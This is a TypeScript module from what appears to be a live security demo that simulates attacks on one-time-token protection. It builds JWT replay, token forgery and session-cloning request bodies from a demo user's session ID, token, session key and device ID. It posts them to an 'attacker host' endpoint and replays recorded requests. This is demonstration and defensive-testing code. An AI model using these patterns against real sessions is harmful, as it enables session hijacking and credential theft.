import type {
  CloneBody,
  JwtReplayBody,
  OtaForgeryBody,
  VerdictBody,
} from '@one-tick-ahead/api/contract/bodies'
import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
import { joinHistory } from '@one-tick-ahead/ota/history'
import {
  type CallResult,
  isCode,
  readCallResult,
  type SentRequest,
  whyNoAnswer,
} from '@/components/live-demo/monitors/call'
import type { AttackBody, MonitorRow } from '@/components/live-demo/run'
import { noAnswerWords, type Outcome, outcomeOf, wordsFor } from '@/components/live-demo/words'
import type { UserInfo } from '@/lib/demo/store'

/** Body of spec §7, call 6. */
export const jwtForgeryBody = (
  user: Pick<UserInfo, 'jsessionID' | 'token'>,
  url: string,
): JwtReplayBody => ({
  jsessionID: user.jsessionID,
  jwt: user.token,
  url,
})

/** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
export const otaForgeryBody = (
  user: Pick<UserInfo, 'jsessionID'>,
  ota: string,
  url: string,
): Omit<OtaForgeryBody, 'requestId'> => ({
  jsessionID: user.jsessionID,
  ota,
  url,
})

/** Body of spec §7, call 8: everything a script in the page could steal. */
export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'deviceCookie'> => ({
  deviceID: user.deviceId,
  jsessionID: user.jsessionID,
  sessionKey: user.sessionkey,
  requestHistory: joinHistory(user.requestHistory),
  url,
})

/** Null unless the value is a verdict. */
export function readVerdict(value: unknown): VerdictBody | null {
  if (typeof value !== 'object' || value === null) return null
  if (!('message' in value) || typeof value.message !== 'string') return null
  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
  return { message: value.message, statusCode: Number(value.statusCode) }
}

/** A verdict, whatever it says; or why there is none, in words for the visitor. */
export type AttackAnswer =
  | { ok: true; outcome: Outcome; verdict: VerdictBody }
  | { ok: false; outcome: Exclude<Outcome, 'in' | 'held'>; message: string }

/** The attacker host's own answer when its target gave none. */
const HTTP_BAD_GATEWAY = 502

const SILENCE = {
  offline: 'No answer: this device is offline.',
  timeout: `The attacker host did not answer in ${ANSWER_LIMIT_MS / 1000} s.`,
  unreachable: 'The attacker host could not be reached.',
}

/** Sends a stolen body to the attacker's host; a failure is an answer, never a rejection. */
export async function runAttack(
  fetchFn: typeof fetch,
  endpoint: string,
  body: AttackBody,
  signal: AbortSignal,
  isOnline = true,
): Promise<AttackAnswer> {
  try {
    const response = await fetchFn(endpoint, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      credentials: 'include',
      body: JSON.stringify(body),
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const verdict = readVerdict(await response.json().catch(() => null))
    if (verdict) {
      const isSilent = verdict.statusCode === HTTP_BAD_GATEWAY
      const outcome = isSilent ? 'no-answer' : outcomeOf(verdict.statusCode)
      return { ok: true, outcome, verdict }
    }
    const message = 'The attacker host sent an answer that cannot be read.'
    return { ok: false, outcome: 'no-verdict', message }
  } catch (error) {
    const message = SILENCE[whyNoAnswer(error, isOnline)]
    return { ok: false, outcome: 'no-answer', message }
  }
}

/** A request that is older than this, in ms, would be refused for its age, not for being a replay. */
const RECORDED_FOR_MS = 10_000

/** The newest request that the server accepted and whose token is in time; null when there is none. */
export function newestRecorded(rows: readonly MonitorRow[], serverNow: number): SentRequest | null {
  const sent = rows.find((row) => row.status === 200 && row.sent)?.sent
  return sent && serverNow - sent.madeAt < RECORDED_FOR_MS ? sent : null
}

/** The recorded request as the panel shows it. */
export const recordedBody = ({ url, headers }: SentRequest): AttackBody => ({
  url,
  ...headers,
  Cookie: 'both, as recorded: the browser adds them, no script can read them',
})

const wordsOf = ({ status, code, records }: CallResult) => {
  if (status !== 200) return `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
  return `Attack succeeded: the recorded request was accepted again, ${records} records read.`
}

/**
 * Sends a recorded request once more: address, token, request id, send log and, by the browser
 * itself, both cookies are those of the first time. Never rejects.
 */
export async function replay(
  fetchFn: typeof fetch,
  { url, headers }: SentRequest,
  signal: AbortSignal,
  isOnline = true,
): Promise<AttackAnswer> {
  try {
    const response = await fetchFn(url, {
      headers,
      credentials: 'include',
      cache: 'no-store',
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const result = await readCallResult(url, response)
    if (result.noAnswer) {
      return { ok: false, outcome: 'no-verdict', message: 'The answer could not be read.' }
    }
    const verdict = { statusCode: result.status, message: wordsOf(result) }
    // Refused for another reason, it says nothing of the second use.
    const isReplay = result.status === 200 || isCode(result.code, 'ota_replayed')
    const outcome = isReplay ? outcomeOf(result.status) : 'no-verdict'
    return { ok: true, outcome, verdict }
  } catch (error) {
    const message = `The recorded request got ${noAnswerWords[whyNoAnswer(error, isOnline)]}.`
    return { ok: false, outcome: 'no-answer', message }
  }
}
